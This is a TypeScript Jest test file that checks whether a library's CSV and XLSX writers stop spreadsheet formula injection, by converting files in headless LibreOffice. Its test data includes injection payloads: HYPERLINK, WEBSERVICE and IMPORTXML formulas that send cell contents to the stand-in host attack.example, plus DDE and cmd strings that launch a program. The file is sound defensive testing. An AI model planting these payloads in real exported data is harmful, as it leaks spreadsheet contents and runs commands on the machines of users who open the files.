import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';

import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';

import { formulaSafe, writeCsvRow, writeXlsx } from '#libs/formats';

const OFFICE = '/usr/bin/soffice';
const run = promisify(execFile);

/** What spreadsheets may take for the start of a formula, and what an attacker lets follow. */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\uFEFF=',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
];
const FORMULAS = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://attack.example/"&A1,"click")',
  'WEBSERVICE("http://attack.example/"&A1)',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML(CONCAT("http://attack.example/",A1),"//a")',
];
const PAYLOADS = STARTS.flatMap((start) => FORMULAS.map((formula) => start + formula));
const COLUMNS = ['row', 'payload'];
const rows = PAYLOADS.map((payload, at) => [`row ${at}`, payload]);
const isHere = existsSync(OFFICE);
if (!isHere) process.stdout.write(`left out: ${OFFICE} is not installed\n`);

(isHere ? describe : describe.skip)('tables that are opened in LibreOffice', () => {
  let folder: string;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'tradelane-office-'));
    const csv = (guard: (cell: string) => string): string =>
      [COLUMNS, ...rows].map((cells) => writeCsvRow(cells.map(guard), ',')).join('');
    await writeFile(join(folder, 'guarded.csv'), csv(formulaSafe));
    await writeFile(
      join(folder, 'bare.csv'),
      csv((cell) => cell),
    );
    await writeFile(
      join(folder, 'workbook.xlsx'),
      writeXlsx({ name: 'Rows', columns: COLUMNS.map((name) => ({ name })), rows }),
    );
    // Commas, double quotes, UTF-8, from the first line on: what a person would say in the dialogue.
    await opened('--infilter=CSV:44,34,76,1', 'guarded.csv', 'bare.csv');
    await opened('workbook.xlsx');
  });

  afterAll(() => rm(folder, { recursive: true, force: true }));

  /** Opens files and writes what the program sees as XML beside them. */
  const opened = (...args: readonly string[]) =>
    run(OFFICE, [`-env:UserInstallation=file://${folder}/profile`, '--headless', '--convert-to', 'fods', ...args], {
      cwd: folder,
    });

  async function seen(name: string): Promise<{ rows: number; formulas: number }> {
    const text = await readFile(join(folder, `${name}.fods`), 'utf8');
    return {
      rows: text.match(/<text:p>row \d+<\/text:p>/g)?.length ?? 0,
      formulas: text.match(/table:formula=/g)?.length ?? 0,
    };
  }

  test('have no formulas where they were guarded', async () => {
    expect(await seen('guarded')).toEqual({ rows: PAYLOADS.length, formulas: 0 });
  });

  test('have none in workbooks, whatever their texts are', async () => {
    expect(await seen('workbook')).toEqual({ rows: PAYLOADS.length, formulas: 0 });
  });

  test('would have formulas without the guard', async () => {
    const { formulas } = await seen('bare');
    process.stdout.write(`formulas: ${PAYLOADS.length} payloads, ${formulas} would be run without the guard\n`);
    // That much of a guard is needed even where LibreOffice is careful: what begins with a plain =.
    expect(formulas).toBeGreaterThanOrEqual(FORMULAS.length);
  });
});
